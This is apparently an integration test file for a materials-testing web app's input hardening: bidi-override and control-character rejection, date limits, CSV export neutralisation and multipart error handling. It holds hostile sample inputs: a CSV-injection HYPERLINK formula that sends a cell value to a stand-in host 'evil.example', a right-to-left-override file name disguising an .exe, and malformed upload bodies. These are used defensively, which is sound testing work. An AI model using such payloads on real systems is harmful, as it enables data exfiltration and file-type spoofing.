/**
 * Hardened inputs (issue 12 item 6; findings 6, 7, 10 and the input part of 11), each tried as an
 * attack against the real MariaDB:
 * - free text refuses control characters (tab and line feed only where several lines are allowed)
 *   and the Unicode bidirectional overrides and isolates of the "Trojan Source" attack
 *   (CVE-2021-42574; Unicode UAX #9 lists them: U+202A-U+202E, U+2066-U+2069); dates lie within a
 *   sane range; nothing partial is stored;
 * - the CSV export neutralises formula-leading cells with a leading apostrophe (OWASP "CSV
 *   Injection": cells beginning with = + - @, tab or carriage return);
 * - every multipart parser error is a 4xx in the error shape with no stack trace in the log;
 * - a maximum-size spectrum is read and scored in the compute pool and stored byte for byte.
 */
import { log } from '../../server/lib/log';
import net from 'node:net';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import request from 'supertest';
import { sha256Hex } from '../../server/lib/canonical';
import { loadConfig } from '../../server/lib/config';
import { agentFor, db, makeUser, PASSWORD, testApp, uniqueName } from './helpers';
import {
  agent,
  approvedMaterial,
  FIBRES,
  flushMail,
  instrumentWithCheck,
  receiveLot,
  retire,
  startTest,
  writeCounts,
  type ApprovedMaterial,
  supplierFor,
} from './fixtures-testing';
import { bigSpectrumCsv } from './fixtures-big-upload';

let nylon: ApprovedMaterial;
let operator: Awaited<ReturnType<typeof agent>>;
let instrumentId: number;
let supplierId: number;

beforeAll(async () => {
  nylon = await approvedMaterial({ name: 'Nylon 6,6 for input checks', referenceFiles: [FIBRES.nylon66Reference] });
  ({ supplierId } = await supplierFor(nylon.materialId));
  operator = await agent(['operator']);
  ({ instrumentId } = await instrumentWithCheck('valid'));
});

afterAll(async () => {
  await flushMail();
  await retire();
});

const lotBody = (over: Record<string, unknown> = {}) => ({
  materialId: nylon.materialId,
  supplierId,
  supplierLot: 'HP-2211',
  containerCount: 2,
  receivedDate: new Date().toISOString().slice(0, 10),
  ...over,
});

const lotCount = async () => Number((await db()('lot').count({ n: '*' }).first())!.n);

describe('free text and dates (finding 11)', () => {
  it.each([
    ['the right-to-left override U+202E', { supplierLot: 'HP \u202Eslyt\u202C 11' }, /U\+202E/],
    ['a right-to-left isolate U+2067', { supplierLot: 'HP-\u20672211' }, /U\+2067/],
    ['a BEL control character', { supplierLot: 'HP\u0007 2211' }, /U\+0007/],
    ['a tab in a one-line field', { supplierLot: 'HP\t2211' }, /U\+0009/],
    ['an escape sequence in notes', { notes: 'ok \u001b[31mred\u001b[0m' }, /U\+001B/],
    ['a C1 control character in notes', { notes: 'next line\u0085here' }, /U\+0085/],
    ['a lone carriage return in notes', { notes: 'first\rsecond' }, /U\+000D/],
    ['an unpaired surrogate', { notes: 'broken \uD800 text' }, /unpaired/],
  ])('refuses %s with a sentence, and stores nothing', async (_what, over, message) => {
    const before = await lotCount();
    const res = await operator.agent.post('/api/lots').send(lotBody(over));
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('VALIDATION');
    expect(res.body.error.message).toMatch(message);
    expect(await lotCount()).toBe(before);
  });

  it('keeps tabs and line breaks where several lines are allowed (Windows line ends become LF)', async () => {
    const lot = await receiveLot(operator.agent, nylon.materialId, 1, {
      notes: 'drum 1:\tseal intact\r\ndrum 2:\tlabel torn',
    });
    const row = (await db()('lot').where({ id: lot.id }).first())!;
    expect(row.notes).toBe('drum 1:\tseal intact\ndrum 2:\tlabel torn');
  });

  it('refuses a received date of year 0001 and other dates outside 2000-01-01 .. today', async () => {
    const before = await lotCount();
    const old = await operator.agent.post('/api/lots').send(lotBody({ receivedDate: '0001-01-01' }));
    expect(old.status).toBe(400);
    expect(old.body.error.message).toMatch(/cannot be before 2000-01-01/);
    const late = await operator.agent.post('/api/lots').send(lotBody({ receivedDate: '9999-12-31' }));
    expect([400, 422]).toContain(late.status);
    expect(await lotCount()).toBe(before);
    // filters too: an audit search from year 0001 and a certificate list of year 0001
    const { agent: auditor } = await agentFor(['auditor']);
    expect((await auditor.get('/api/audit/events').query({ from: '0001-01-01T00:00:00Z' })).status).toBe(400);
    expect((await auditor.get('/api/certificates').query({ from: '0001-01-01' })).status).toBe(400);
  });

  it('reasons, names and sign-in user names are checked the same way', async () => {
    const { agent: admin } = await agentFor(['admin']);
    const u = await makeUser(['operator']);
    const bidiReason = await admin
      .patch(`/api/users/${u.id}`)
      .send({ fullName: 'Test \u202Enamdiva', reason: 'name corrected' });
    expect(bidiReason.status).toBe(400);
    expect((await db()('app_user').where({ id: u.id }).first())!.full_name).toBe(u.fullName);
    const auditBefore = Number((await db()('audit_event').count({ n: '*' }).first())!.n);
    const s = await request(testApp()).post('/api/auth/sign-in').send({ username: 'admin\u0000', password: PASSWORD });
    expect(s.status).toBe(400);
    expect(Number((await db()('audit_event').count({ n: '*' }).first())!.n)).toBe(auditBefore);
  });
});

describe('CSV export of formula-leading cells (finding 6)', () => {
  it('puts an apostrophe before = + - and @ in every text cell; the stored values stay as they were', async () => {
    // The attack of the probe: an anonymous failed sign-in whose user name is a spreadsheet formula.
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const signIn = await request(testApp()).post('/api/auth/sign-in').send({ username: formula, password: 'x' });
    expect(signIn.status).toBe(401);
    const { agent: admin } = await agentFor(['admin']);
    const u = await makeUser(['operator']);
    // (a leading tab or CR cannot reach a stored value: free text is trimmed; tests/unit/csv.test.ts covers them)
    const reasons = ['+1+2 bump', '-2+3 correction', '@SUM(A1:A2) typo'];
    for (const reason of reasons) {
      const r = await admin.patch(`/api/users/${u.id}`).send({ email: `${uniqueName('m')}@test.example`, reason });
      expect(r.status).toBe(200);
    }
    const { agent: auditor } = await agentFor(['auditor']);
    const res = await auditor
      .get('/api/audit/export.csv')
      .query({ entityType: 'user', sort: 'asc' })
      .buffer(true)
      .parse((r, cb) => {
        let s = '';
        r.setEncoding('utf8');
        r.on('data', (c: string) => (s += c));
        r.on('end', () => cb(null, s));
      });
    expect(res.status).toBe(200);
    const text = res.body as string;
    // the formula user name (actor_name column) arrives as text, quoted because it holds quotes and a comma
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(text).toContain(",'+1+2 bump,");
    expect(text).toContain(",'-2+3 correction,");
    expect(text).toContain(",'@SUM(A1:A2) typo,");
    expect(text).toMatch(/# A text cell that starts with = \+ - @/);
    // numbers are data, not formulas: ids and times are not touched
    expect(text).not.toMatch(/,'\d/);
    // the audit trail itself keeps the values exactly as entered
    const stored = (await db()('audit_event').where({ actor_name: formula }).first())!;
    expect(stored.actor_name).toBe(formula);
    const reasonsStored = await db()('audit_event')
      .where({ entity_type: 'user', entity_id: String(u.id) })
      .whereNotNull('reason')
      .orderBy('id')
      .pluck('reason');
    expect(reasonsStored).toEqual(reasons);
  });
});

/** Sends a raw HTTP request (headers and body as given) and returns the status line and body. */
function rawRequest(port: number, head: string, body: Buffer | string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const sock = net.connect(port, '127.0.0.1');
    let data = '';
    sock.setEncoding('utf8');
    sock.on('data', (c: string) => (data += c));
    sock.on('error', reject);
    sock.on('end', () => {
      const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(data)?.[1] ?? 0);
      resolve({ status, body: data.slice(data.indexOf('\r\n\r\n') + 4) });
    });
    // the request is complete by its own framing; the server closes after answering (Connection: close)
    sock.write(head);
    sock.write(body);
  });
}

describe('multipart uploads: every parser error is a 4xx without a stack trace (finding 7)', () => {
  let port = 0;
  let server: ReturnType<ReturnType<typeof testApp>['listen']>;
  let cookie = '';
  let testId = 0;
  beforeAll(async () => {
    server = testApp().listen(0, '127.0.0.1');
    await new Promise((r) => server.once('listening', r));
    port = (server.address() as AddressInfo).port;
    const lot = await receiveLot(operator.agent, nylon.materialId, 1);
    testId = await startTest(operator.agent, lot.id, instrumentId);
    const s = await request(testApp())
      .post('/api/auth/sign-in')
      .send({ username: operator.user.username, password: PASSWORD });
    cookie = String(s.headers['set-cookie'][0]).split(';')[0];
  });
  afterAll(() => new Promise((r) => server.close(r)));

  const B = 'drumlineboundary7MA4YWxkTrZu0gW';
  const part = (name: string, value: string, file?: string) =>
    `--${B}\r\nContent-Disposition: form-data; name="${name}"${file ? `; filename="${file}"` : ''}\r\n` +
    `${file ? 'Content-Type: text/csv\r\n' : ''}\r\n${value}\r\n`;
  const head = (length: number | 'chunked', type = `multipart/form-data; boundary=${B}`) =>
    `POST /api/tests/${testId}/measurements HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nCookie: ${cookie}\r\n` +
    `Content-Type: ${type}\r\n` +
    (length === 'chunked' ? 'Transfer-Encoding: chunked\r\n' : `Content-Length: ${length}\r\n`) +
    'Connection: close\r\n\r\n';

  async function expectRefused(h: string, body: string, status: number, code: string) {
    const errors = vi.spyOn(log, 'error');
    const before = await writeCounts();
    const res = await rawRequest(port, h, body);
    expect(res.status).toBe(status);
    const json = JSON.parse(res.body);
    expect(json.error.code).toBe(code);
    expect(json.error.message).toMatch(/\.\s*$/);
    expect(res.body).not.toMatch(/\n\s+at /);
    expect(errors).not.toHaveBeenCalled();
    errors.mockRestore();
    expect(await writeCounts()).toEqual(before);
  }

  it('a truncated body (the form ends in the middle of the file) answers 400 UPLOAD_INCOMPLETE', async () => {
    // chunked transfer: HTTP sees a complete request whose multipart body stops mid-file
    const body =
      part('label', 'x') + `--${B}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n1,2\n3,`;
    const chunked = `${Buffer.byteLength(body).toString(16)}\r\n${body}\r\n0\r\n\r\n`;
    await expectRefused(head('chunked'), chunked, 400, 'UPLOAD_INCOMPLETE');
  });

  it('a body without its boundary, a file in an unexpected field and too many parts answer 400', async () => {
    const noBoundary = 'just some bytes';
    await expectRefused(head(noBoundary.length, 'multipart/form-data'), noBoundary, 400, 'UPLOAD_MALFORMED');
    const wrongField = part('spectrum', '1,2\n', 'a.csv') + `--${B}--\r\n`;
    await expectRefused(head(Buffer.byteLength(wrongField)), wrongField, 400, 'UPLOAD_REFUSED');
    const many = Array.from({ length: 40 }, (_, i) => part(`f${i}`, 'v')).join('') + `--${B}--\r\n`;
    await expectRefused(head(Buffer.byteLength(many)), many, 400, 'UPLOAD_REFUSED');
    const garbledHeader = `--${B}\r\nthis is not a header\r\n\r\nv\r\n--${B}--\r\n`;
    await expectRefused(head(Buffer.byteLength(garbledHeader)), garbledHeader, 400, 'UPLOAD_MALFORMED');
  });

  it('a file above the upload limit answers 413, and a file name with a direction override 400', async () => {
    const limit = loadConfig().uploadMaxBytes;
    const big = Buffer.alloc(limit + 1, 0x31);
    const over = await operator.agent
      .post(`/api/tests/${testId}/measurements`)
      .field('label', 'x')
      .attach('file', big, { filename: 'huge.csv', contentType: 'text/csv' });
    expect(over.status).toBe(413);
    expect(over.body.error.code).toBe('FILE_TOO_LARGE');
    const spoof = await operator.agent
      .post(`/api/tests/${testId}/measurements`)
      .field('label', 'x')
      .attach('file', Buffer.from('1,2\n'), { filename: 'spectrum\u202Evsc.exe', contentType: 'text/csv' });
    expect(spoof.status).toBe(400);
    expect(spoof.body.error.code).toBe('BAD_FILE_NAME');
  });
});

describe('a maximum-size upload is parsed off the event loop (finding 10)', () => {
  it('a spectrum just under the upload limit (about a million points) is scored and stored byte for byte', async () => {
    const limit = loadConfig().uploadMaxBytes;
    const bytes = bigSpectrumCsv(limit);
    expect(bytes.length).toBeGreaterThan(limit * 0.9);
    const lot = await receiveLot(operator.agent, nylon.materialId, 1);
    const id = await startTest(operator.agent, lot.id, instrumentId);
    const { computePoolStats } = await import('../../server/workers/pool');
    const tasksBefore = computePoolStats().completed;
    const res = await operator.agent
      .post(`/api/tests/${id}/measurements`)
      .field('containerId', String(lot.containers[0].id))
      .attach('file', bytes, { filename: 'nylon-fine-grid.csv', contentType: 'text/csv' });
    expect(res.status, JSON.stringify(res.body).slice(0, 300)).toBe(201);
    // same material as the reference (nylon 6,6, ../shared/reference-data): it passes
    expect(res.body.verdict).toBe('pass');
    expect(res.body.result.sampleMeta.points).toBeGreaterThan(800_000);
    expect(computePoolStats().completed).toBeGreaterThan(tasksBefore);
    const m = (await db()('measurement').where({ id: res.body.id }).first())!;
    const f = (await db()('stored_file').where({ id: m.file_id }).first())!;
    expect(f.size).toBe(bytes.length);
    expect(f.sha256).toBe(sha256Hex(bytes));
    expect(sha256Hex(f.data)).toBe(f.sha256);
    expect(Math.abs(new Date(f.uploaded_at).getTime() - Date.now())).toBeLessThan(120_000);
  });
});
